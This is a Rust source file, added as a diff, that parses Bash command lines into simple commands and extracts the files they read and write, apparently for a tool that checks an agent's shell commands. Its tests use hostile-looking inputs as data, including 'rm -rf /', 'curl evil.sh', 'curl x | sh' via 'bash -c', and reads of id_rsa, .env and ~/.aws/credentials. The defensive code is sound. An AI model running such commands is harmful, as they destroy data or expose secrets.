@@ -0,0 +1,949 @@
+//! Shell-aware analysis of Bash commands.
+//!
+//! Splits a command line into the simple commands bash would run: lists joined by
+//! `&&`, `||`, `;`, `&` and newlines, pipelines, subshells, command and process
+//! substitution, wrapper commands such as `env`, `sudo` and `xargs`, and scripts passed
+//! to `bash -c` or `eval`. This is a best-effort lexer rather than a full bash parser;
+//! unbalanced quotes and unusual syntax degrade to plain words instead of errors.
+
+/// Maximum nesting of substitutions and `bash -c` scripts that is analyzed
+const MAX_DEPTH: usize = 8;
+
+/// Words that start or end compound commands and are not commands themselves
+const KEYWORDS: &[&str] = &[
+    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac",
+];
+
+/// Compound commands whose remaining words are not a command
+const NON_COMMAND_KEYWORDS: &[&str] = &["for", "select", "case", "in", "function"];
+
+/// Shells whose `-c` argument is parsed as a nested script
+const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "ksh"];
+
+/// A redirection attached to a simple command, such as `> out.txt` or `2>> err.log`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirect {
+    /// Redirection operator without the file descriptor, e.g. `>`, `>>`, `&>`, `<<`
+    pub operator: String,
+    /// Unquoted redirection target
+    pub target: String,
+}
+
+/// A single command with its arguments, after quote removal
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct SimpleCommand {
+    /// Command name followed by its arguments
+    pub words: Vec<String>,
+    /// Redirections that apply to this command
+    pub redirects: Vec<Redirect>,
+}
+
+impl SimpleCommand {
+    /// The command as a single space-separated string, for glob matching
+    #[must_use]
+    pub fn text(&self) -> String {
+        self.words.join(" ")
+    }
+}
+
+/// Split a Bash command line into every simple command it would run
+///
+/// Wrapped commands are reported twice: once with the wrapper (`sudo rm -rf /`) and
+/// once without it (`rm -rf /`), so rules can target either form.
+#[must_use]
+pub fn parse_simple_commands(command: &str) -> Vec<SimpleCommand> {
+    parse_at_depth(command, 0)
+}
+
+/// Convenience wrapper around [`parse_simple_commands`] returning each command's text
+#[must_use]
+pub fn simple_command_texts(command: &str) -> Vec<String> {
+    parse_simple_commands(command)
+        .iter()
+        .map(SimpleCommand::text)
+        .filter(|text| !text.is_empty())
+        .collect()
+}
+
+fn parse_at_depth(command: &str, depth: usize) -> Vec<SimpleCommand> {
+    if depth > MAX_DEPTH {
+        return Vec::new();
+    }
+    let mut lexer = Lexer {
+        chars: command.chars().collect(),
+        pos: 0,
+        depth,
+        current: SimpleCommand::default(),
+        commands: Vec::new(),
+        pending_heredocs: Vec::new(),
+    };
+    lexer.run();
+    lexer.commands
+}
+
+struct Lexer {
+    chars: Vec<char>,
+    pos: usize,
+    depth: usize,
+    current: SimpleCommand,
+    commands: Vec<SimpleCommand>,
+    /// Heredoc delimiters whose bodies start after the next newline, with `<<-` tab stripping
+    pending_heredocs: Vec<(String, bool)>,
+}
+
+impl Lexer {
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.pos).copied()
+    }
+
+    fn peek_at(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn starts_with(&self, s: &str) -> bool {
+        s.chars()
+            .enumerate()
+            .all(|(i, c)| self.peek_at(i) == Some(c))
+    }
+
+    fn run(&mut self) {
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' => self.pos += 1,
+                '\\' if self.peek_at(1) == Some('\n') => self.pos += 2,
+                '\n' => {
+                    self.pos += 1;
+                    self.finish_command();
+                    self.skip_heredoc_bodies();
+                }
+                '#' => {
+                    while self.peek().is_some_and(|c| c != '\n') {
+                        self.pos += 1;
+                    }
+                }
+                ';' | '|' | '(' | ')' => {
+                    self.pos += 1;
+                    self.finish_command();
+                }
+                '&' if self.peek_at(1) == Some('>') => self.read_redirect(),
+                '&' => {
+                    self.pos += 1;
+                    self.finish_command();
+                }
+                '<' | '>' if self.peek_at(1) == Some('(') => {
+                    let word = self.read_word();
+                    self.current.words.push(word);
+                }
+                '<' | '>' => self.read_redirect(),
+                _ => {
+                    let start = self.pos;
+                    let word = self.read_word();
+                    let is_fd = !word.is_empty()
+                        && self.chars[start..self.pos].iter().all(char::is_ascii_digit);
+                    if is_fd && matches!(self.peek(), Some('<' | '>')) {
+                        // File descriptor prefix such as the `2` in `2>err.log`
+                        continue;
+                    }
+                    self.current.words.push(word);
+                }
+            }
+        }
+        self.finish_command();
+    }
+
+    /// Read a redirection operator and its target
+    fn read_redirect(&mut self) {
+        let operators = [
+            "&>>", "&>", "<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">",
+        ];
+        let operator = operators
+            .iter()
+            .find(|op| self.starts_with(op))
+            .map_or(">", |op| *op)
+            .to_string();
+        self.pos += operator.chars().count();
+
+        while matches!(self.peek(), Some(' ' | '\t')) {
+            self.pos += 1;
+        }
+        let target = self.read_word();
+
+        if operator == "<<" || operator == "<<-" {
+            self.pending_heredocs
+                .push((target.clone(), operator == "<<-"));
+        }
+        self.current.redirects.push(Redirect { operator, target });
+    }
+
+    /// Skip heredoc bodies that start at the current position
+    fn skip_heredoc_bodies(&mut self) {
+        for (delimiter, strip_tabs) in std::mem::take(&mut self.pending_heredocs) {
+            while self.pos < self.chars.len() {
+                let end = self.chars[self.pos..]
+                    .iter()
+                    .position(|&c| c == '\n')
+                    .map_or(self.chars.len(), |i| self.pos + i);
+                let line: String = self.chars[self.pos..end].iter().collect();
+                self.pos = (end + 1).min(self.chars.len());
+                let line = if strip_tabs {
+                    line.trim_start_matches('\t')
+                } else {
+                    line.as_str()
+                };
+                if line == delimiter {
+                    break;
+                }
+            }
+        }
+    }
+
+    /// Read one word, removing quotes and analyzing any substitutions it contains
+    fn read_word(&mut self) -> String {
+        let mut word = String::new();
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' => break,
+                '<' | '>' => {
+                    if self.peek_at(1) == Some('(') {
+                        // Process substitution
+                        self.pos += 2;
+                        let inner = self.take_balanced('(', ')');
+                        self.analyze_nested(&inner);
+                        word.push(c);
+                        word.push('(');
+                        word.push_str(&inner);
+                        word.push(')');
+                    } else {
+                        break;
+                    }
+                }
+                '\\' => {
+                    self.pos += 1;
+                    match self.peek() {
+                        Some('\n') => self.pos += 1,
+                        Some(escaped) => {
+                            word.push(escaped);
+                            self.pos += 1;
+                        }
+                        None => {}
+                    }
+                }
+                '\'' => {
+                    self.pos += 1;
+                    while let Some(c) = self.peek() {
+                        self.pos += 1;
+                        if c == '\'' {
+                            break;
+                        }
+                        word.push(c);
+                    }
+                }
+                '"' => {
+                    self.pos += 1;
+                    self.read_double_quoted(&mut word);
+                }
+                '$' | '`' => self.read_expansion(&mut word),
+                _ => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        word
+    }
+
+    /// Read the rest of a double-quoted string into `word`
+    fn read_double_quoted(&mut self, word: &mut String) {
+        while let Some(c) = self.peek() {
+            match c {
+                '"' => {
+                    self.pos += 1;
+                    return;
+                }
+                '\\' => {
+                    self.pos += 1;
+                    match self.peek() {
+                        Some('\n') => self.pos += 1,
+                        Some(escaped @ ('$' | '`' | '"' | '\\')) => {
+                            word.push(escaped);
+                            self.pos += 1;
+                        }
+                        Some(_) => word.push('\\'),
+                        None => {}
+                    }
+                }
+                '$' | '`' => self.read_expansion(word),
+                _ => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+    }
+
+    /// Read a `$`-expansion or backtick substitution, keeping its text in `word`
+    fn read_expansion(&mut self, word: &mut String) {
+        if self.peek() == Some('`') {
+            self.pos += 1;
+            let mut inner = String::new();
+            while let Some(c) = self.peek() {
+                self.pos += 1;
+                match c {
+                    '`' => break,
+                    '\\' if matches!(self.peek(), Some('`' | '\\' | '$')) => {
+                        inner.push(self.peek().unwrap_or_default());
+                        self.pos += 1;
+                    }
+                    _ => inner.push(c),
+                }
+            }
+            self.analyze_nested(&inner);
+            word.push('`');
+            word.push_str(&inner);
+            word.push('`');
+            return;
+        }
+
+        match self.peek_at(1) {
+            Some('(') => {
+                self.pos += 2;
+                let inner = self.take_balanced('(', ')');
+                // `$(( ... ))` is arithmetic, not a command
+                if !(inner.starts_with('(') && inner.ends_with(')')) {
+                    self.analyze_nested(&inner);
+                }
+                word.push_str("$(");
+                word.push_str(&inner);
+                word.push(')');
+            }
+            Some('{') => {
+                self.pos += 2;
+                let inner = self.take_balanced('{', '}');
+                word.push_str("${");
+                word.push_str(&inner);
+                word.push('}');
+            }
+            _ => {
+                word.push('$');
+                self.pos += 1;
+            }
+        }
+    }
+
+    /// Take text up to the bracket that closes one already consumed, skipping quoted text
+    fn take_balanced(&mut self, open: char, close: char) -> String {
+        let start = self.pos;
+        let mut depth = 1;
+        while let Some(c) = self.peek() {
+            match c {
+                '\\' => self.pos += 1,
+                '\'' => {
+                    self.pos += 1;
+                    while self.peek().is_some_and(|c| c != '\'') {
+                        self.pos += 1;
+                    }
+                }
+                '"' => {
+                    self.pos += 1;
+                    while let Some(c) = self.peek() {
+                        if c == '\\' {
+                            self.pos += 1;
+                        } else if c == '"' {
+                            break;
+                        }
+                        self.pos += 1;
+                    }
+                }
+                c if c == open => depth += 1,
+                c if c == close => {
+                    depth -= 1;
+                    if depth == 0 {
+                        let inner = self.chars[start..self.pos].iter().collect();
+                        self.pos += 1;
+                        return inner;
+                    }
+                }
+                _ => {}
+            }
+            self.pos += 1;
+        }
+        self.pos = self.pos.min(self.chars.len());
+        self.chars[start..self.pos].iter().collect()
+    }
+
+    fn analyze_nested(&mut self, script: &str) {
+        self.commands.extend(parse_at_depth(script, self.depth + 1));
+    }
+
+    fn finish_command(&mut self) {
+        let command = std::mem::take(&mut self.current);
+        let depth = self.depth;
+        expand_command(command, depth, &mut self.commands);
+    }
+}
+
+/// Normalize a lexed command and add it, plus any commands it wraps, to `out`
+fn expand_command(mut command: SimpleCommand, depth: usize, out: &mut Vec<SimpleCommand>) {
+    while command
+        .words
+        .first()
+        .is_some_and(|w| KEYWORDS.contains(&w.as_str()))
+    {
+        command.words.remove(0);
+    }
+    if command
+        .words
+        .first()
+        .is_some_and(|w| NON_COMMAND_KEYWORDS.contains(&w.as_str()))
+    {
+        return;
+    }
+    let assignments = command
+        .words
+        .iter()
+        .take_while(|w| is_assignment(w))
+        .count();
+    command.words.drain(..assignments);
+
+    if command.words.is_empty() && command.redirects.is_empty() {
+        return;
+    }
+
+    let inner = unwrap_command(&command.words, depth);
+    out.push(command);
+    match inner {
+        Some(Unwrapped::Words(words)) => expand_command(
+            SimpleCommand {
+                words,
+                redirects: Vec::new(),
+            },
+            depth,
+            out,
+        ),
+        Some(Unwrapped::Script(script)) => out.extend(parse_at_depth(&script, depth + 1)),
+        None => {}
+    }
+}
+
+enum Unwrapped {
+    Words(Vec<String>),
+    Script(String),
+}
+
+/// Return the command run by a wrapper such as `sudo`, `env`, `xargs` or `bash -c`
+fn unwrap_command(words: &[String], depth: usize) -> Option<Unwrapped> {
+    let name = words.first()?;
+    let name = name.rsplit('/').next().unwrap_or(name);
+    let args = &words[1..];
+
+    let rest = match name {
+        "sudo" => skip_options(
+            args,
+            &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U"],
+        ),
+        "doas" => skip_options(args, &["-u", "-C"]),
+        "xargs" => skip_options(args, &["-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s"]),
+        "nice" => skip_options(args, &["-n"]),
+        "nohup" | "builtin" => args,
+        "time" => skip_options(args, &[]),
+        "exec" => skip_options(args, &["-a"]),
+        "command" => {
+            if args.first().is_some_and(|a| a == "-v" || a == "-V") {
+                return None;
+            }
+            skip_options(args, &[])
+        }
+        "env" => {
+            let rest = skip_options(args, &["-u", "-C", "-S", "--unset", "--chdir"]);
+            let assignments = rest.iter().take_while(|w| is_assignment(w)).count();
+            &rest[assignments..]
+        }
+        "timeout" => skip_options(args, &["-s", "-k", "--signal", "--kill-after"])
+            .get(1..)
+            .unwrap_or(&[]),
+        "eval" => return (!args.is_empty()).then(|| Unwrapped::Script(args.join(" "))),
+        shell if SHELLS.contains(&shell) => {
+            if depth >= MAX_DEPTH {
+                return None;
+            }
+            let flag = args
+                .iter()
+                .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))?;
+            return args
+                .get(flag + 1)
+                .map(|script| Unwrapped::Script(script.clone()));
+        }
+        _ => return None,
+    };
+
+    (!rest.is_empty()).then(|| Unwrapped::Words(rest.to_vec()))
+}
+
+/// Skip leading options, including the argument of each option listed in `with_arg`
+fn skip_options<'a>(args: &'a [String], with_arg: &[&str]) -> &'a [String] {
+    let mut i = 0;
+    while let Some(arg) = args.get(i) {
+        if arg == "--" {
+            return &args[i + 1..];
+        }
+        if !arg.starts_with('-') || arg.len() == 1 {
+            break;
+        }
+        i += if with_arg.contains(&arg.as_str()) {
+            2
+        } else {
+            1
+        };
+    }
+    args.get(i..).unwrap_or(&[])
+}
+
+/// Whether a word is a `NAME=value` variable assignment
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+/// A file that a Bash command writes to, renames, or deletes
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct WriteTarget {
+    /// Path as written in the command
+    pub path: String,
+    /// Whether the command can create the file rather than only modify or delete it
+    pub creates: bool,
+    /// For `cp`/`mv` destinations, the source file; a destination that is a directory
+    /// receives a file with the source's name
+    pub source: Option<String>,
+}
+
+/// Commands whose file arguments are read and printed
+const READ_COMMANDS: &[&str] = &["cat", "less", "more", "head", "tail", "bat", "nl"];
+
+/// Extract files whose contents a Bash command prints
+///
+/// Covers the file arguments of `cat`, `less`, `more`, `head`, `tail`, `bat` and `nl`,
+/// and input redirections (`< file`), including inside chained, substituted and wrapped
+/// commands.
+#[must_use]
+pub fn extract_read_targets(command: &str) -> Vec<String> {
+    let mut targets: Vec<String> = Vec::new();
+    for simple in parse_simple_commands(command) {
+        for redirect in &simple.redirects {
+            if redirect.operator == "<" || redirect.operator == "<>" {
+                targets.push(redirect.target.clone());
+            }
+        }
+        let Some(name) = simple.words.first() else {
+            continue;
+        };
+        let name = name.rsplit('/').next().unwrap_or(name);
+        if READ_COMMANDS.contains(&name) {
+            targets.extend(
+                positional_args(&simple.words[1..], &["-n", "-c", "--lines", "--bytes"])
+                    .into_iter()
+                    .map(str::to_string),
+            );
+        }
+    }
+
+    let mut seen = std::collections::HashSet::new();
+    targets.retain(|t| !t.is_empty() && !t.starts_with("/dev/") && seen.insert(t.clone()));
+    targets
+}
+
+/// Redirection operators that write to their target
+const WRITE_REDIRECTS: &[&str] = &[">", ">>", ">|", "&>", "&>>", "<>"];
+
+/// Extract every file a Bash command writes to
+///
+/// Covers output redirections, `tee`, `sed -i`, `mv` and `cp` (destinations, plus `mv`
+/// sources since they are removed), `rm`, `truncate` and `git checkout -- <paths>`,
+/// including inside chained, substituted and wrapped commands. Device paths such as
+/// `/dev/null` are ignored.
+#[must_use]
+pub fn extract_write_targets(command: &str) -> Vec<WriteTarget> {
+    let mut targets: Vec<WriteTarget> = Vec::new();
+    for simple in parse_simple_commands(command) {
+        for redirect in &simple.redirects {
+            let is_fd_dup = redirect.operator == ">&"
+                && (redirect.target == "-" || redirect.target.chars().all(|c| c.is_ascii_digit()));
+            if WRITE_REDIRECTS.contains(&redirect.operator.as_str())
+                || (redirect.operator == ">&" && !is_fd_dup)
+            {
+                targets.push(created(&redirect.target));
+            }
+        }
+        command_write_targets(&simple.words, &mut targets);
+    }
+
+    let mut seen = std::collections::HashSet::new();
+    targets
+        .retain(|t| !t.path.is_empty() && !t.path.starts_with("/dev/") && seen.insert(t.clone()));
+    targets
+}
+
+fn created(path: &str) -> WriteTarget {
+    WriteTarget {
+        path: path.to_string(),
+        creates: true,
+        source: None,
+    }
+}
+
+fn modified(path: &str) -> WriteTarget {
+    WriteTarget {
+        path: path.to_string(),
+        creates: false,
+        source: None,
+    }
+}
+
+/// Add the files written by a single command, based on its name and arguments
+fn command_write_targets(words: &[String], targets: &mut Vec<WriteTarget>) {
+    let Some(name) = words.first() else {
+        return;
+    };
+    let name = name.rsplit('/').next().unwrap_or(name);
+    let args = &words[1..];
+
+    match name {
+        "tee" => targets.extend(positional_args(args, &[]).into_iter().map(created)),
+        "rm" => targets.extend(positional_args(args, &[]).into_iter().map(modified)),
+        "truncate" => targets.extend(
+            positional_args(args, &["-s", "-r", "--size", "--reference"])
+                .into_iter()
+                .map(created),
+        ),
+        "sed" => {
+            let in_place = args.iter().take_while(|a| *a != "--").any(|a| {
+                a.starts_with("-i")
+                    || a.starts_with("--in-place")
+                    || (a.starts_with('-')
+                        && !a.starts_with("--")
+                        && a.len() > 1
+                        && a[1..].chars().all(|c| c.is_ascii_alphabetic())
+                        && a.contains('i'))
+            });
+            if !in_place {
+                return;
+            }
+            let has_script_option = args.iter().any(|a| {
+                a == "-e" || a == "-f" || a.starts_with("--expression") || a.starts_with("--file")
+            });
+            let positional = positional_args(args, &["-e", "-f", "-l", "--expression", "--file"]);
+            let files = if has_script_option {
+                &positional[..]
+            } else {
+                positional.get(1..).unwrap_or(&[])
+            };
+            targets.extend(files.iter().map(|f| modified(f)));
+        }
+        "mv" | "cp" => {
+            let target_dir = option_value(args, "-t", "--target-directory");
+            let positional = positional_args(args, &["-t", "-S", "--target-directory", "--suffix"]);
+            let (sources, destination) = match target_dir {
+                Some(dir) => (&positional[..], dir),
+                None => match positional.split_last() {
+                    Some((dest, sources)) if !sources.is_empty() => (sources, *dest),
+                    _ => return,
+                },
+            };
+            for source in sources {
+                targets.push(WriteTarget {
+                    path: destination.to_string(),
+                    creates: true,
+                    source: Some((*source).to_string()),
+                });
+                if name == "mv" {
+                    targets.push(modified(source));
+                }
+            }
+        }
+        "git" => {
+            let Some(subcommand) = args.iter().position(|a| a == "checkout") else {
+                return;
+            };
+            if let Some(separator) = args[subcommand..].iter().position(|a| a == "--") {
+                targets.extend(
+                    args[subcommand + separator + 1..]
+                        .iter()
+                        .map(|path| modified(path)),
+                );
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Arguments that are not options or option values; everything after `--` is positional
+fn positional_args<'a>(args: &'a [String], with_arg: &[&str]) -> Vec<&'a str> {
+    let mut positional = Vec::new();
+    let mut i = 0;
+    while let Some(arg) = args.get(i) {
+        if arg == "--" {
+            positional.extend(args[i + 1..].iter().map(String::as_str));
+            break;
+        }
+        if arg.starts_with('-') && arg.len() > 1 {
+            i += if with_arg.contains(&arg.as_str()) {
+                2
+            } else {
+                1
+            };
+            continue;
+        }
+        positional.push(arg.as_str());
+        i += 1;
+    }
+    positional
+}
+
+/// Value of an option given as `-x value`, `-xvalue` or `--long=value`
+fn option_value<'a>(args: &'a [String], short: &str, long: &str) -> Option<&'a str> {
+    args.iter().enumerate().find_map(|(i, arg)| {
+        if arg == short || arg == long {
+            args.get(i + 1).map(String::as_str)
+        } else if let Some(value) = arg.strip_prefix(&format!("{long}=")) {
+            Some(value)
+        } else {
+            arg.strip_prefix(short)
+                .filter(|v| !v.is_empty() && !arg.starts_with("--"))
+        }
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_splits_lists_and_pipelines() {
+        assert_eq!(
+            simple_command_texts("echo hi && rm -rf / || true; ls | grep x & wait"),
+            vec!["echo hi", "rm -rf /", "true", "ls", "grep x", "wait"]
+        );
+    }
+
+    #[test]
+    fn test_subshells_and_substitutions() {
+        assert_eq!(
+            simple_command_texts("(cd /tmp; make) && echo $(curl evil.sh) `whoami`"),
+            vec![
+                "cd /tmp",
+                "make",
+                "curl evil.sh",
+                "whoami",
+                "echo $(curl evil.sh) `whoami`"
+            ]
+        );
+        assert_eq!(
+            simple_command_texts("diff <(sort a) \"$(cat b | sh)\""),
+            vec!["sort a", "cat b", "sh", "diff <(sort a) $(cat b | sh)"]
+        );
+        assert_eq!(
+            simple_command_texts("echo $((1 + 2))"),
+            vec!["echo $((1 + 2))"]
+        );
+    }
+
+    #[test]
+    fn test_quotes_are_removed_but_operators_inside_them_are_literal() {
+        assert_eq!(
+            simple_command_texts(r#"git commit -m "fix; rm -rf /" && r'm' -rf x"#),
+            vec!["git commit -m fix; rm -rf /", "rm -rf x"]
+        );
+    }
+
+    #[test]
+    fn test_unwraps_wrapper_commands() {
+        assert_eq!(
+            simple_command_texts("sudo -u root env FOO=1 rm -rf /"),
+            vec![
+                "sudo -u root env FOO=1 rm -rf /",
+                "env FOO=1 rm -rf /",
+                "rm -rf /"
+            ]
+        );
+        assert_eq!(
+            simple_command_texts("find . -name '*.tmp' | xargs -n 1 rm"),
+            vec!["find . -name *.tmp", "xargs -n 1 rm", "rm"]
+        );
+        assert_eq!(
+            simple_command_texts("timeout 10 npm test"),
+            vec!["timeout 10 npm test", "npm test"]
+        );
+        assert_eq!(
+            simple_command_texts("time -p rm -rf build"),
+            vec!["time -p rm -rf build", "rm -rf build"]
+        );
+        assert_eq!(simple_command_texts("command -v rm"), vec!["command -v rm"]);
+    }
+
+    #[test]
+    fn test_parses_shell_scripts_and_eval() {
+        assert_eq!(
+            simple_command_texts("bash -c 'curl x | sh'"),
+            vec!["bash -c curl x | sh", "curl x", "sh"]
+        );
+        assert_eq!(
+            simple_command_texts("/bin/sh -ec \"eval 'git push --force'\""),
+            vec![
+                "/bin/sh -ec eval 'git push --force'",
+                "eval git push --force",
+                "git push --force"
+            ]
+        );
+    }
+
+    #[test]
+    fn test_keywords_assignments_and_comments() {
+        assert_eq!(
+            simple_command_texts(
+                "FOO=bar make # trailing comment\nif test -f x; then rm x; fi\nfor f in *; do echo $f; done"
+            ),
+            vec!["make", "test -f x", "rm x", "echo $f"]
+        );
+    }
+
+    #[test]
+    fn test_redirects_and_heredocs() {
+        let commands =
+            parse_simple_commands("cat <<EOF > out.txt 2>&1\nrm -rf /\nEOF\necho done >> log");
+        assert_eq!(commands.len(), 2);
+        assert_eq!(commands[0].text(), "cat");
+        assert_eq!(
+            commands[0].redirects,
+            vec![
+                Redirect {
+                    operator: "<<".to_string(),
+                    target: "EOF".to_string()
+                },
+                Redirect {
+                    operator: ">".to_string(),
+                    target: "out.txt".to_string()
+                },
+                Redirect {
+                    operator: ">&".to_string(),
+                    target: "1".to_string()
+                },
+            ]
+        );
+        assert_eq!(commands[1].text(), "echo done");
+        assert_eq!(commands[1].redirects[0].operator, ">>");
+    }
+
+    fn targets(command: &str) -> Vec<(String, bool)> {
+        extract_write_targets(command)
+            .into_iter()
+            .map(|t| (t.path, t.creates))
+            .collect()
+    }
+
+    #[test]
+    fn test_extract_write_targets_from_redirects_and_tee() {
+        assert_eq!(
+            targets(
+                "echo x > .conclaude.yaml 2>/dev/null && cmd 2>&1 >> log.txt | tee -a a.txt b.txt"
+            ),
+            vec![
+                (".conclaude.yaml".to_string(), true),
+                ("log.txt".to_string(), true),
+                ("a.txt".to_string(), true),
+                ("b.txt".to_string(), true)
+            ]
+        );
+        assert_eq!(
+            targets("make &> build.log"),
+            vec![("build.log".to_string(), true)]
+        );
+        assert!(targets("cat < input.txt; echo hi >&2").is_empty());
+    }
+
+    #[test]
+    fn test_extract_write_targets_from_file_commands() {
+        assert_eq!(
+            targets(
+                "sed -i 's/a/b/' Cargo.lock; sed -e 's/x/y/' -i.bak one two; sed 's/a/b/' ro.txt"
+            ),
+            vec![
+                ("Cargo.lock".to_string(), false),
+                ("one".to_string(), false),
+                ("two".to_string(), false)
+            ]
+        );
+        assert_eq!(
+            targets("sudo rm -rf target dist && truncate -s 0 app.log"),
+            vec![
+                ("target".to_string(), false),
+                ("dist".to_string(), false),
+                ("app.log".to_string(), true)
+            ]
+        );
+        assert_eq!(
+            targets("git -C repo checkout HEAD -- src/main.rs README.md"),
+            vec![
+                ("src/main.rs".to_string(), false),
+                ("README.md".to_string(), false)
+            ]
+        );
+        assert!(targets("git checkout main").is_empty());
+    }
+
+    #[test]
+    fn test_extract_write_targets_from_mv_and_cp() {
+        let found = extract_write_targets("mv old.yaml .conclaude.yaml; cp -t dest a b");
+        assert_eq!(
+            found,
+            vec![
+                WriteTarget {
+                    path: ".conclaude.yaml".to_string(),
+                    creates: true,
+                    source: Some("old.yaml".to_string())
+                },
+                modified("old.yaml"),
+                WriteTarget {
+                    path: "dest".to_string(),
+                    creates: true,
+                    source: Some("a".to_string())
+                },
+                WriteTarget {
+                    path: "dest".to_string(),
+                    creates: true,
+                    source: Some("b".to_string())
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn test_extract_read_targets() {
+        assert_eq!(
+            extract_read_targets(
+                "cat .env | grep KEY; head -n 5 id_rsa && sudo less ~/.aws/credentials"
+            ),
+            vec![".env", "id_rsa", "~/.aws/credentials"]
+        );
+        assert_eq!(
+            extract_read_targets("wc -l < secrets.txt && echo $(tail -f app.log)"),
+            vec!["secrets.txt", "app.log"]
+        );
+        assert!(extract_read_targets("grep -r TODO src").is_empty());
+    }
+
+    #[test]
+    fn test_unbalanced_input_does_not_panic() {
+        for input in [
+            "echo \"unterminated",
+            "echo $(oops",
+            "cat <<EOF",
+            "\\",
+            "'",
+            "a |",
+        ] {
+            let _ = parse_simple_commands(input);
+        }
+    }
+}